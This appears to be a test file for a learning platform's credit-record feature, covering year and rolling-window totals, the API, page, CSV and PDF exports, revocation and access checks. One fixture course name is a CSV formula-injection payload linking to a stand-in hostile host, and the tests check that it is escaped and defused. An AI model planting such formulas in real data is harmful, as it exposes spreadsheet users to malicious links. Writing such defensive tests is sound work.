import { creditTargets, identities, users } from '@lms/db';
import { eq } from 'drizzle-orm';
import t from 'tap';
import { reissueCertificate, revokeCertificate } from '../../src/domain/learning/certificate-revocation.js';
import { memberCredits, rollingStart, yearStart } from '../../src/domain/learning/credits.js';
import { buildTestApp } from '../helpers/app.js';
import { earnCertificate, makeCourse } from '../helpers/catalog-fixtures.js';
import { manualClock } from '../helpers/clock.js';
import { apiKeyFor, makeInstitution, makeUser, sessionCookieFor } from '../helpers/fixtures.js';
import { pdfText } from '../helpers/pdf.js';
import { countQueries } from '../helpers/query-counter.js';
import { registerPartner } from '../helpers/sso.js';
import { outboxOnly } from '../../src/domain/partner-events/queue.js';

// A member's credit record: records written at chosen dates (straight into the database, as
// issuance writes them), totals per calendar year in the pages' zone (Asia/Jakarta, UTC+7) and
// per rolling window (its edges to the second), a revoked certificate voided and a reissue
// counting again; the page, the API, the CSV and the PDF; and everyone who is not the member.

const ZONE = 'Asia/Jakarta';
const time = manualClock(Date.parse('2026-06-15T05:00:00Z')); // 12:00 WIB
const { app, db: testDb } = await buildTestApp(t, { deps: { clock: time.clock } });
const db = testDb.db;

const institutionId = await makeInstitution(db, 'Ikatan Profesi');
const teacher = await makeUser(db, { role: 'teacher', institutionId });
const course = (name: string, nilaiKum: number, creditScheme: string) =>
  makeCourse(db, { teacherId: teacher.id, institutionId, name, nilaiKum, creditScheme });
const audit = await course('Audit Lanjutan', 10, 'SKP');
const ethics = await course('Etika Profesi', 4, 'KUM');
const evil = await course('=HYPERLINK("http://evil.example/?x","klik")', 5, 'SKP');
const tax = await course('Perpajakan', 7, 'SKP');

const member = await makeUser(db, { role: 'student', name: 'Ni Made Ayu Pradnyaswarī' });
await db.update(users).set({ membershipId: 'IAI-0042' }).where(eq(users.id, member.id));
// 00:30 WIB on 1 January 2026 (still 2025 in UTC): counts in 2026.
const newYear = await earnCertificate(db, member.id, audit, '2025-12-31T17:30:00Z');
// 23:30 WIB on 31 December 2025: counts in 2025.
await earnCertificate(db, member.id, ethics, '2025-12-31T16:30:00Z');
// The rolling window of 3 years starts at 00:00 WIB on 15 June 2023 = 2023-06-14T17:00:00Z.
await earnCertificate(db, member.id, evil, '2023-06-14T17:00:00Z');
await earnCertificate(db, member.id, tax, '2023-06-14T16:59:59Z');

const partner = await registerPartner(db, { issuer: 'iai.example.or.id' });
await db.insert(identities).values({ issuer: 'iai.example.or.id', membershipId: 'IAI-0042', userId: member.id, origin: 'sso' });
await db.insert(creditTargets).values([
  { partnerId: partner, scheme: 'SKP', period: 'calendar_year', years: 1, amount: 30 },
  { partnerId: partner, scheme: 'SKP', period: 'rolling', years: 3, amount: 120 },
]);
// Another partner's target: the member holds no identity of it, so it is not theirs.
const stranger = await registerPartner(db, { issuer: 'other.example.org' });
await db.insert(creditTargets).values({ partnerId: stranger, scheme: 'SKP', period: 'calendar_year', years: 1, amount: 99 });

const other = await makeUser(db, { role: 'student', name: 'Orang Lain' });
const secretCourse = await course('Kursus Rahasia Orang Lain', 3, 'SKP');
await earnCertificate(db, other.id, secretCourse, '2026-02-01T00:00:00Z');

const cookie = await sessionCookieFor(app, member.id, 30 * 86_400_000);
const get = (url: string, extra: Record<string, string> = {}, c = cookie) => app.inject({ url, headers: { cookie: c, ...extra } });

t.test('the window edges in the zone', async (t) => {
  const now = time.clock();
  t.equal(rollingStart(now, 3, ZONE).toISOString(), '2023-06-14T17:00:00.000Z');
  t.equal(yearStart(now, ZONE).toISOString(), '2025-12-31T17:00:00.000Z');
  t.equal(rollingStart(new Date('2028-02-29T05:00:00Z'), 1, ZONE).toISOString(), '2027-02-28T17:00:00.000Z', '29 Feb a year back: 1 Mar');
  t.equal(rollingStart(new Date('2026-01-01T00:00:00Z'), 1, 'UTC').toISOString(), '2025-01-01T00:00:00.000Z');
});

t.test('records and totals: years in WIB, rolling edges, targets of the own partners only', async (t) => {
  const c = await memberCredits(db, member.id, time.clock(), ZONE);
  t.equal(c.records.length, 4);
  t.same(
    c.yearTotals.map((y) => [y.year, y.scheme, y.amount]),
    [
      [2026, 'SKP', 10],
      [2025, 'KUM', 4],
      [2023, 'SKP', 12],
    ],
  );
  t.same(
    c.rollingTotals.map((r) => [r.scheme, r.years, r.amount]),
    [
      ['KUM', 3, 4],
      ['SKP', 3, 15],
    ],
    'the record at the first second of the window counts, the one a second before does not',
  );
  t.same(
    c.targets.map((x) => [x.issuer, x.scheme, x.period, x.years, x.target, x.earned]),
    [
      ['iai.example.or.id', 'SKP', 'calendar_year', 1, 30, 10],
      ['iai.example.or.id', 'SKP', 'rolling', 3, 120, 15],
    ],
  );
});

t.test('the API: own records only; API key 403, anonymous 401', async (t) => {
  const res = await get('/api/learning/credits');
  t.equal(res.statusCode, 200);
  const body = res.json();
  t.equal(body.timeZone, ZONE);
  t.equal(body.records.length, 4);
  t.match(body.records[0], { courseName: 'Audit Lanjutan', scheme: 'SKP', amount: 10, voided: false, certificateStatus: 'valid' });
  t.notMatch(res.body, /Rahasia/, "nothing of another member's");
  t.match(body.targets, [
    { target: 30, earned: 10 },
    { target: 120, earned: 15 },
  ]);

  const key = await apiKeyFor(db, member.id);
  t.equal((await app.inject({ url: '/api/learning/credits', headers: { 'x-api-key': key } })).statusCode, 403);
  t.equal((await app.inject({ url: '/api/learning/credits' })).statusCode, 401);
  const theirs = (await get('/api/learning/credits', {}, await sessionCookieFor(app, other.id))).json();
  t.same(
    theirs.records.map((r: { courseName: string }) => r.courseName),
    ['Kursus Rahasia Orang Lain'],
    'the other member sees their own only',
  );
  t.same(theirs.targets, [], 'no partner, no target');
});

t.test('the page: table, totals, progress; escaped; anonymous to sign-in', async (t) => {
  const res = await get('/learn/credits', { cookie: `${cookie}; lms_lang=en` });
  t.equal(res.statusCode, 200);
  t.match(res.body, /My credit record/);
  t.match(res.body, /10 \/ 30 SKP in 2026/);
  t.match(res.body, /<progress max="30" value="10"/);
  t.match(res.body, /15 \/ 120 SKP in the last 3 years/);
  t.match(res.body, /href="\/learn\/credits.csv"/);
  t.match(res.body, /href="\/learn\/credits.pdf"/);
  t.match(res.body, /=HYPERLINK\(&quot;http/, 'the course name escaped');
  t.notMatch(res.body, /Rahasia/);
  t.notMatch(res.body, /\/ 99 SKP/, "another partner's target is not shown");
  const id = await get('/learn/credits');
  t.match(id.body, /10 \/ 30 SKP pada 2026/, 'in Indonesian by default');
  const anonymous = await app.inject({ url: '/learn/credits' });
  t.equal(anonymous.statusCode, 302);
  t.equal(anonymous.headers.location, '/sign-in');
  const key = await apiKeyFor(db, member.id);
  t.not((await app.inject({ url: '/learn/credits', headers: { 'x-api-key': key } })).statusCode, 200, 'an API key opens no page');
});

t.test('the dashboard shows this year and the targets', async (t) => {
  const res = await get('/dashboard', { cookie: `${cookie}; lms_lang=en` });
  t.equal(res.statusCode, 200);
  t.match(res.body, /Credits this year/);
  t.match(res.body, /10 \/ 30 SKP in 2026/);
  t.match(res.body, /href="\/learn\/credits"/);
});

t.test('CSV: BOM, dialect by language, formulas defused, a download', async (t) => {
  const en = await get('/learn/credits.csv', { cookie: `${cookie}; lms_lang=en` });
  t.equal(en.statusCode, 200);
  t.match(en.headers['content-type'], /^text\/csv; charset=utf-8/);
  t.equal(en.headers['content-disposition'], 'attachment; filename="credits-2026-06-15.csv"');
  const bytes = en.rawPayload;
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a BOM');
  const lines = en.body.replace(/^\uFEFF/, '').split('\r\n');
  t.equal(lines[0], '"Date","Course","Scheme","Amount","Certificate code","Status"', 'every text cell quoted');
  t.equal(lines[1], `"2026-01-01","Audit Lanjutan","SKP",10,"${newYear.code}","Counted"`, 'the day in WIB; the amount a number');
  t.equal(lines[2].split(',')[0], '"2025-12-31"');
  const evilLine = lines.find((l) => l.includes('HYPERLINK'))!;
  t.ok(evilLine.startsWith(`"2023-06-15","'=HYPERLINK(""http://evil.example/?x"",""klik"")"`), evilLine);
  t.notMatch(en.body, /(^|,)"?=HYPERLINK/m, 'no cell starts with =');
  t.notMatch(en.body, /Rahasia/);
  const id = await get('/learn/credits.csv');
  const idLines = id.body.replace(/^\uFEFF/, '').split('\r\n');
  t.equal(idLines[0], '"Tanggal";"Kursus";"Skema";"Jumlah";"Kode sertifikat";"Status"');
  t.match(idLines[3], /^"2023-06-15";"'=HYPERLINK/);
  t.equal(id.headers['content-disposition'], 'attachment; filename="kredit-2026-06-15.csv"');
  t.equal((await app.inject({ url: '/learn/credits.csv' })).statusCode, 302, 'anonymous: to sign-in');
});

t.test('PDF: a PDF holding the name, the membership number and the totals', async (t) => {
  const res = await get('/learn/credits.pdf', { cookie: `${cookie}; lms_lang=en` });
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], 'application/pdf');
  t.match(res.headers['content-disposition'], /^attachment; filename="credits-2026-06-15\.pdf"$/);
  t.equal(res.rawPayload.subarray(0, 5).toString('latin1'), '%PDF-');
  const { text } = await pdfText(res.rawPayload);
  t.match(text, /Ni Made Ayu Pradnyaswarī/);
  t.match(text, /IAI-0042/);
  t.match(text, /2026 · SKP: 10/);
  t.match(text, /2023 · SKP: 12/);
  t.match(text, /SKP, last 3 years: 15/);
  t.match(text, /10 \/ 30 SKP in 2026/);
  t.notMatch(text, /Rahasia/);
  t.equal((await app.inject({ url: '/learn/credits.pdf' })).statusCode, 302, 'anonymous: to sign-in');
});

t.test('a revoked certificate is voided (shown, not counted); a reissue counts again', async (t) => {
  t.equal((await revokeCertificate(db, outboxOnly, newYear.code, 'Plagiarisme', time.clock())).outcome, 'revoked');
  let body = (await get('/api/learning/credits')).json();
  const voided = body.records.find((r: { certificateCode: string }) => r.certificateCode === newYear.code);
  t.match(voided, { voided: true, certificateStatus: 'revoked', voidedAt: '2026-06-15T05:00:00.000Z' });
  t.notOk(
    body.yearTotals.some((y: { year: number }) => y.year === 2026),
    'nothing counted in 2026',
  );
  t.match(body.targets, [
    { period: 'calendar_year', earned: 0 },
    { period: 'rolling', earned: 5 },
  ]);
  const page = await get('/learn/credits', { cookie: `${cookie}; lms_lang=en` });
  t.match(page.body, /Voided \(certificate revoked\)/);
  t.match(page.body, /0 \/ 30 SKP in 2026/);
  const csv = await get('/learn/credits.csv', { cookie: `${cookie}; lms_lang=en` });
  t.match(csv.body, /"Audit Lanjutan","SKP",10,"[0-9a-f]{32}","Voided/);

  const reissued = await reissueCertificate(db, outboxOnly, newYear.code, time.clock());
  t.equal(reissued.outcome, 'reissued');
  body = (await get('/api/learning/credits')).json();
  t.equal(body.records.length, 5, 'the voided record stays, the new one is counted');
  const fresh = body.records.find((r: { certificateCode: string }) => r.certificateCode === (reissued as { code: string }).code);
  t.match(fresh, { voided: false, earnedAt: '2025-12-31T17:30:00.000Z', certificateStatus: 'valid' }, 'with its original date');
  t.match(body.yearTotals[0], { year: 2026, scheme: 'SKP', amount: 10 });
  t.match(body.targets, [{ period: 'calendar_year', earned: 10 }]);
});

t.test('bounded statements: 40 records cost what 1 does', async (t) => {
  const few = await makeUser(db, { role: 'student' });
  const many = await makeUser(db, { role: 'student' });
  await earnCertificate(db, few.id, audit, '2026-01-05T00:00:00Z');
  for (let i = 0; i < 40; i++) {
    const c = await course(`Seminar ${i}`, 1.5, i % 2 ? 'SKP' : 'KUM');
    await earnCertificate(db, many.id, c, `20${10 + (i % 16)}-03-0${1 + (i % 9)}T00:00:00Z`);
  }
  await db.insert(identities).values({ issuer: 'iai.example.or.id', membershipId: 'IAI-many', userId: many.id, origin: 'sso' });
  const cookies = [await sessionCookieFor(app, few.id), await sessionCookieFor(app, many.id)];
  const counts: number[] = [];
  for (const c of cookies) {
    const counter = countQueries(db);
    const res = await get('/api/learning/credits', {}, c);
    counter.restore();
    t.equal(res.statusCode, 200);
    counts.push(counter.statements.length);
  }
  t.equal(counts[0], counts[1], `the same number of statements (${counts.join(', ')})`);
  t.ok(counts[1]! <= 4, 'the session, the records, the targets');
});
